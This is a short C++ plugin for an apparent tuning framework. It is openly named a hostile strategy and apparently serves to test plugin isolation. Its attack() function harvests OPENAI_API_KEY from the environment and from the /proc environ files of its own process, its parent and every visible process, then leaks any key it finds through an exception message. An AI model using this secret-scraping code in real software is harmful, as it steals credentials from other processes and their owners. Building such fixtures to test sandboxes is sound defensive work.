// Reads the API key from its environment, its own /proc/self/environ, its parent's and every process's it can see.
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include <ktune/plugin.hpp>

extern "C" {
int fork();
int setsid();
int getppid();
int socket(int, int, int);
int connect(int, const void*, unsigned);
long write(int, const void*, unsigned long);
int prctl(int, ...);
int pause();
}

namespace {

[[maybe_unused]] std::string read_all(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

[[maybe_unused]] void attack() {
  if (const char* key = std::getenv("OPENAI_API_KEY")) throw std::runtime_error(std::string("getenv: ") + key);
  // Its own, its parent's, and every other process's it can see.
  std::vector<std::string> paths = {"/proc/self/environ", "/proc/" + std::to_string(getppid()) + "/environ"};
  std::error_code ec;
  for (const auto& entry : std::filesystem::directory_iterator("/proc", ec))
    paths.push_back(entry.path().string() + "/environ");
  for (const auto& path : paths) {
    const std::string text = read_all(path);
    if (text.find("OPENAI_API_KEY") != std::string::npos) throw std::runtime_error(path + ": " + text);
  }
}

// The strategy without its hostile part: random sampling until the budget ends.
class Hostile final : public ktune::Strategy {
 public:
  void run(const ktune::SearchSpace& space, ktune::CostFunction& cost, ktune::Rng& rng) override {
    attack();
    for (;;) (void)cost(static_cast<std::size_t>(rng.below(space.size())));
  }
};

ktune::StrategyInfo describe() {
  return {"read_key", "random sampling with a hostile part", {},
          [](const ktune::Hyperparameters&) { return std::make_unique<Hostile>(); }};
}

}  // namespace

KTUNE_STRATEGY_PLUGIN(describe)
